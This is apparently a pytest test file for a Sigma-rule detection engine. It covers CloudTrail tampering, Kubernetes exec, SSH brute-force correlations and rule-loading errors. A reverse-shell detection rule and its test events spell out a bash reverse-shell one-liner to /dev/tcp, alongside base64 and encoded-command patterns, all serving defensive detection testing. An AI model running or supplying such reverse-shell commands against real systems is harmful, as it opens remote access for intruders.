"""Sigma engine: rules written like SigmaHQ's, positive and near-miss events per feature."""

from __future__ import annotations

import base64
import textwrap
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from cloudwarden.core.events import Event
from cloudwarden.core.model import Severity
from cloudwarden.detect.sigma import (
    SigmaEngine,
    check,
    load_sigma,
    load_sigma_text,
    to_alert,
)

T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


def uid(name: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, name))


def rule(body: str, *, logsource: str = "product: aws\n  service: cloudtrail", **meta: str) -> str:
    head = {"title": "t", "id": "r1", "status": "test", "level": "high"} | meta
    head["id"] = uid(head["id"])
    lines = [f"{k}: {v}" for k, v in head.items()]
    return "\n".join(lines) + f"\nlogsource:\n  {logsource}\n" + textwrap.dedent(body)


def ct(**fields: Any) -> Event:
    return Event(
        time=T0, source="aws.cloudtrail", action=fields.get("eventName", ""), fields=fields
    )


def proc(image: str, cmd: str, **fields: Any) -> Event:
    return Event(
        time=T0,
        source="linux.process",
        action=image,
        process=image,
        command_line=cmd,
        fields=fields,
    )


def engine(text: str) -> SigmaEngine:
    ruleset = load_sigma_text(text)
    assert not ruleset.errors and not ruleset.unsupported, (ruleset.errors, ruleset.unsupported)
    return SigmaEngine(ruleset)


STOP_LOGGING = rule(
    """
    detection:
      selection:
        eventSource: cloudtrail.amazonaws.com
        eventName:
          - StopLogging
          - UpdateTrail
          - DeleteTrail
      condition: selection
    tags:
      - attack.defense-evasion
      - attack.t1562.008
    """,
    title="AWS CloudTrail Important Change",
)


def test_cloudtrail_stop_logging_matches_and_converts_to_alert() -> None:
    e = engine(STOP_LOGGING)
    hit = ct(eventSource="cloudtrail.amazonaws.com", eventName="StopLogging")
    [m] = e.match(hit)
    assert (m.rule_id, m.title, m.level) == (uid("r1"), "AWS CloudTrail Important Change", "high")
    alert = to_alert(m)
    assert alert.severity is Severity.HIGH
    assert (alert.tactic, alert.technique) == ("TA0005", "T1562.008")
    assert e.match(ct(eventSource="cloudtrail.amazonaws.com", eventName="StartLogging")) == []
    assert e.match(ct(eventSource="s3.amazonaws.com", eventName="StopLogging")) == []
    # case-insensitive by default
    assert e.match(ct(eventSource="CloudTrail.amazonaws.com", eventName="stoplogging"))
    # other sources never see CloudTrail rules
    other = Event(time=T0, source="gcp.audit", action="x", fields=hit.fields)
    assert e.match(other) == []
    assert e.stats()["aws.cloudtrail"]["exact_fields"] == 1


def test_kubernetes_exec_into_pod() -> None:
    e = engine(
        rule(
            """
            detection:
              selection:
                verb: create
                objectRef.resource: pods
                objectRef.subresource: exec
              condition: selection
            """,
            logsource="product: kubernetes\n  service: audit",
        )
    )

    def k8s(sub: str | None) -> Event:
        ref = {"resource": "pods", "namespace": "default"} | ({"subresource": sub} if sub else {})
        return Event(
            time=T0,
            source="kubernetes.audit",
            action="create pods",
            fields={"verb": "create", "objectRef": ref, "user": {"username": "bob"}},
        )

    assert e.match(k8s("exec"))
    assert not e.match(k8s("log"))
    assert not e.match(k8s(None))


REVERSE_SHELL = rule(
    """
    detection:
      selection_img:
        Image|endswith:
          - '/bash'
          - '/sh'
      selection_cli:
        CommandLine|contains|all:
          - '/dev/tcp/'
          - '>&'
      filter_main:
        ParentImage: '/usr/bin/sshd-test'
      condition: all of selection_* and not 1 of filter_*
    """,
    logsource="product: linux\n  category: process_creation",
)


def test_linux_reverse_shell_contains_all_and_not_filter() -> None:
    e = engine(REVERSE_SHELL)
    assert e.match(proc("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"))
    # only one of the two 'all' values
    assert not e.match(proc("/bin/bash", "cat /dev/tcp/10.0.0.1/80"))
    # wrong image
    assert not e.match(proc("/usr/bin/zsh", "zsh -i >& /dev/tcp/10.0.0.1/4242 0>&1"))
    # filtered parent
    assert not e.match(
        proc("/bin/sh", "sh >& /dev/tcp/1.2.3.4/1", parent_process="/usr/bin/sshd-test")
    )
    assert e.stats()["linux.process"]["exact_fields"] == 1  # routed by image basename


@pytest.mark.parametrize(
    ("detection", "hit", "miss"),
    [
        ("userAgent|startswith: 'aws-cli/'", "aws-cli/2.0 Python", "boto3 aws-cli/2"),
        ("userAgent|endswith: '.exe'", "C:/tools/evil.EXE", "evil.exe.txt"),
        ("userAgent: 'Mozilla*Kali?'", "Mozilla/5.0 Kali1", "Mozilla/5.0 Kali12"),
        (
            "userAgent|re: '^python-requests/2\\.\\d+'",
            "python-requests/2.31",
            "Python-Requests/2.31",
        ),
        ("userAgent|re|i: '^python-requests/2\\.\\d+'", "Python-Requests/2.31", "requests/2.31"),
        ("userAgent|cased: 'Boto3'", "Boto3", "boto3"),
        ("sourceIPAddress|cidr: '10.0.0.0/8'", "10.1.2.3", "11.1.2.3"),
        ("sourceIPAddress|cidr: '2001:db8::/32'", "2001:db8::1", "2001:db9::1"),
        ("requestParameters.maxItems|gt: 100", 101, 100),
        ("requestParameters.maxItems|gte: 100", "100", 99),
        ("requestParameters.maxItems|lt: 10", 9, 10),
        ("requestParameters.maxItems|lte: 10", 10, "eleven"),
        ("requestParameters.maxItems: 5", "5", 6),
        (
            "userAgent|base64offset|contains: 'whoami'",
            "x" + base64.b64encode(b"  whoami").decode(),
            "d2hvYW1",
        ),
        ("userAgent|base64: 'secret'", base64.b64encode(b"secret").decode(), "secret"),
        ("userAgent|windash|contains: ' -enc '", "ps /enc abc", "ps enc abc"),
        ("readOnly: false", False, True),
    ],
)
def test_value_modifiers(detection: str, hit: Any, miss: Any) -> None:
    field = detection.split("|")[0].split(":")[0]
    e = engine(rule(f"detection:\n  sel:\n    {detection}\n  condition: sel\n"))

    def event(value: Any) -> Event:
        parts = field.split(".")
        doc: dict[str, Any] = {parts[-1]: value}
        for p in reversed(parts[:-1]):
            doc = {p: doc}
        return ct(eventName="X", **doc)

    assert e.match(event(hit)), hit
    assert not e.match(event(miss)), miss


def test_null_exists_and_lists_in_events() -> None:
    e = engine(
        rule(
            """
            detection:
              sel:
                eventName: ConsoleLogin
                additionalEventData.MFAUsed: null
              keys:
                errorCode|exists: true
              condition: sel and not keys
            """
        )
    )
    assert e.match(ct(eventName="ConsoleLogin"))
    assert not e.match(ct(eventName="ConsoleLogin", additionalEventData={"MFAUsed": "No"}))
    assert not e.match(ct(eventName="ConsoleLogin", errorCode="AccessDenied"))
    tags = engine(
        rule("detection:\n  sel:\n    resources.ARN|endswith: ':trail/main'\n  condition: sel\n")
    )
    assert tags.match(ct(eventName="X", resources=[{"ARN": "a"}, {"ARN": "arn:x:trail/main"}]))
    assert not tags.match(ct(eventName="X", resources=[{"ARN": "a"}]))


def test_one_of_selection_and_all_of_them() -> None:
    one = engine(
        rule(
            """
            detection:
              selection_a:
                eventName: CreateUser
              selection_b:
                eventName: CreateAccessKey
              condition: 1 of selection_*
            """
        )
    )
    assert one.match(ct(eventName="CreateAccessKey"))
    assert not one.match(ct(eventName="CreateRole"))
    both = engine(
        rule(
            """
            detection:
              a:
                eventName: PutBucketPolicy
              b:
                requestParameters.policy|contains: '"Principal":"*"'
              condition: all of them
            """
        )
    )
    assert both.match(
        ct(eventName="PutBucketPolicy", requestParameters={"policy": '{"Principal":"*"}'})
    )
    assert not both.match(ct(eventName="PutBucketPolicy", requestParameters={"policy": "{}"}))


def test_keywords_search_the_record_text() -> None:
    e = engine(
        rule(
            """
            detection:
              keywords:
                - 'Accepted publickey for root'
                - 'session opened for user root by'
              condition: keywords
            """,
            logsource="product: linux\n  service: auth",
        )
    )

    def auth(msg: str) -> Event:
        return Event(time=T0, source="linux.auth", action="ssh.login", fields={"message": msg})

    assert e.match(auth("sshd[1]: Accepted publickey for ROOT from 10.0.0.1 port 22"))
    assert not e.match(auth("sshd[1]: Accepted publickey for alice from 10.0.0.1 port 22"))
    assert e.stats()["linux.auth"]["substring_fields"] == 1  # behind the prefilter


def test_dns_rule_maps_query_onto_event_domain() -> None:
    e = engine(
        rule(
            "detection:\n  sel:\n    query|endswith: '.onion'\n    record_type: TXT\n"
            "  condition: sel\n",
            logsource="category: dns",
        )
    )
    hit = Event(
        time=T0, source="dns.bind", action="TXT", domain="abc.onion", fields={"query_type": "TXT"}
    )
    assert e.match(hit)
    assert not e.match(
        Event(
            time=T0,
            source="aws.route53.resolver",
            action="A",
            domain="abc.onion",
            fields={"query_type": "A"},
        )
    )


def test_malformed_rule_is_reported_with_its_file_and_others_load(tmp_path: Path) -> None:
    (tmp_path / "cloud").mkdir()
    (tmp_path / "cloud" / "good.yml").write_text(STOP_LOGGING)
    (tmp_path / "cloud" / "bad_modifier.yml").write_text(
        rule("detection:\n  sel:\n    eventName|nosuchmod: x\n  condition: sel\n", id="r2")
    )
    (tmp_path / "cloud" / "broken.yml").write_text("title: [unclosed\n")
    (tmp_path / "windows.yml").write_text(
        rule(
            "detection:\n  sel:\n    Image|endswith: '\\\\cmd.exe'\n  condition: sel\n",
            id="r3",
            logsource="product: windows\n  category: process_creation",
        )
    )
    ruleset = load_sigma(tmp_path)
    assert [r.meta.id for r in ruleset.rules] == [uid("r1")]
    paths = sorted(Path(p.path).name for p in ruleset.errors)
    assert paths == ["bad_modifier.yml", "broken.yml"]
    assert any("nosuchmod" in p.reason for p in ruleset.errors)
    [unsupported] = ruleset.unsupported
    assert unsupported.rule == uid("r3") and "product=windows" in unsupported.reason
    report = check([tmp_path])
    assert report.loaded == (uid("r1"),) and not report.ok
    assert "1 rules loaded, 1 unsupported, 2 invalid" in report.render()


def test_unsupported_features_are_reported_per_rule() -> None:
    ruleset = load_sigma_text(
        rule("detection:\n  sel:\n    userAgent|re: '(a)\\1'\n  condition: sel\n")
        + "\n---\n"
        + rule("detection:\n  sel:\n    eventTime|hour: 3\n  condition: sel\n", id="r2")
    )
    [invalid] = ruleset.errors  # pySigma's policy compiles regexes with RE2 already
    assert invalid.path == "<text>" and "(a)\\1" in invalid.reason
    [unsupported] = ruleset.unsupported
    assert unsupported.rule == uid("r2") and "SigmaTimestampPart" in unsupported.reason


def test_expand_placeholders_from_configuration() -> None:
    text = rule(
        "detection:\n  sel:\n    userIdentity.userName|expand: '%admins%'\n  condition: sel\n"
    )
    assert load_sigma_text(text).unsupported
    e = SigmaEngine(load_sigma_text(text, placeholders={"admins": ["root", "alice"]}))
    assert e.match(ct(eventName="X", userIdentity={"userName": "Alice"}))
    assert not e.match(ct(eventName="X", userIdentity={"userName": "bob"}))


BRUTE_FORCE = """
title: SSH failed login
name: ssh_failed_login
status: test
logsource:
  product: linux
  service: auth
detection:
  keywords:
    - 'Failed password for'
  condition: keywords
level: low
---
title: SSH brute force
name: ssh-brute-force
status: test
correlation:
  type: event_count
  rules:
    - ssh_failed_login
  group-by:
    - user
  timespan: 5m
  condition:
    gte: 5
level: high
tags:
  - attack.credential-access
  - attack.t1110.001
"""


def test_event_count_correlation_by_user_within_timespan() -> None:
    ruleset = load_sigma_text(BRUTE_FORCE)
    assert not ruleset.errors and not ruleset.unsupported
    e = SigmaEngine(ruleset)

    def failed(user: str, minute: float) -> Event:
        return Event(
            time=T0 + timedelta(minutes=minute),
            source="linux.auth",
            action="ssh.login",
            outcome="failure",
            actor=user,
            fields={"user": user, "message": f"Failed password for {user}"},
        )

    # 4 for alice within 5m, 1 for bob: nothing; alice's 5th after the window slid: nothing
    stream = [failed("alice", m) for m in (0, 1, 2, 3)] + [failed("bob", 3.5), failed("alice", 6)]
    # now alice has 2..6 (4 within 5m: 2,3,6 + 1 = 4) -> add two more within the window
    stream += [failed("alice", 6.5), failed("alice", 7)]
    matches = list(e.feed(stream))
    assert all(m.rule_id == "ssh-brute-force" for m in matches)  # generate: false hides the base
    [fired] = matches
    assert fired.group == (("user", "alice"),) and fired.correlation == "event_count"
    assert len(fired.events) == 5 and fired.event.time == T0 + timedelta(minutes=7)
    alert = to_alert(fired)
    assert alert.count == 5 and alert.technique == "T1110.001" and alert.tactic == "TA0006"
    assert e.match(failed("alice", 8)) == []  # match() is stateless and hides non-output rules


def test_value_count_and_temporal_correlations() -> None:
    text = """
title: Access denied
name: denied
status: test
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    errorCode: AccessDenied
  condition: sel
---
title: Key created
name: key
status: test
logsource: {product: aws, service: cloudtrail}
detection:
  sel:
    eventName: CreateAccessKey
  condition: sel
---
title: Enumeration across many APIs
name: many-apis
correlation:
  type: value_count
  rules: [denied]
  group-by: [userIdentity.arn]
  timespan: 10m
  condition: {gte: 3, field: eventName}
---
title: Denied then key created
name: denied-then-key
correlation:
  type: temporal_ordered
  rules: [denied, key]
  group-by: [userIdentity.arn]
  timespan: 10m
"""
    ruleset = load_sigma_text(text)
    assert not ruleset.errors and not ruleset.unsupported, ruleset.unsupported
    e = SigmaEngine(ruleset)

    def ev(name: str, minute: int, error: str = "") -> Event:
        f: dict[str, Any] = {"eventName": name, "userIdentity": {"arn": "arn:u"}}
        if error:
            f["errorCode"] = error
        return Event(
            time=T0 + timedelta(minutes=minute), source="aws.cloudtrail", action=name, fields=f
        )

    stream = [ev("ListUsers", 0, "AccessDenied"), ev("ListUsers", 1, "AccessDenied")]
    stream += [ev("ListRoles", 2, "AccessDenied"), ev("GetSecretValue", 3, "AccessDenied")]
    stream += [ev("CreateAccessKey", 4)]
    ids = [m.rule_id for m in e.feed(stream)]
    assert ids == ["many-apis", "denied-then-key"]


def test_two_thousand_rules_cost_little_per_event() -> None:
    def generated(n: int) -> str:
        docs = [
            rule(
                f"detection:\n  sel:\n    eventName: Api{i}\n"
                f"    requestParameters.name|contains: x{i}\n  condition: sel\n",
                id=f"gen-{i}",
            )
            for i in range(n)
        ]
        return "\n---\n".join(docs)

    events = [
        ct(eventName=f"Api{i % 3000}", requestParameters={"name": f"x{i % 3000}"})
        for i in range(3000)
    ]

    def per_event(n: int) -> tuple[float, int]:
        e = SigmaEngine(load_sigma_text(generated(n)))
        start = time.perf_counter()
        hits = sum(len(e.match(ev)) for ev in events)
        return (time.perf_counter() - start) / len(events), hits

    small, small_hits = per_event(20)
    large, large_hits = per_event(2000)
    assert (small_hits, large_hits) == (20, 2000)
    assert large < small * 5 + 20e-6, (small, large)


def test_alert_type_is_the_rule_name_when_it_has_one() -> None:
    hit = ct(eventSource="cloudtrail.amazonaws.com", eventName="StopLogging")
    [unnamed] = engine(STOP_LOGGING).match(hit)
    assert to_alert(unnamed).type == f"sigma.{uid('r1')}"
    named = STOP_LOGGING.replace("title:", "name: aws.cloudtrail.logging_disabled\ntitle:", 1)
    [m] = engine(named).match(hit)
    assert m.name == "aws.cloudtrail.logging_disabled"
    assert to_alert(m).type == "aws.cloudtrail.logging_disabled"


def test_builtin_rules_give_readable_alert_types() -> None:
    from cloudwarden.detect.rules import RULES_DIR

    e = SigmaEngine(load_sigma(RULES_DIR))
    [m] = [m for m in e.match(ct(eventSource="cloudtrail.amazonaws.com",
                                  eventName="StopLogging"))
           if "logging" in m.title.lower()][:1]
    assert to_alert(m).type.startswith("aws.cloudtrail.")
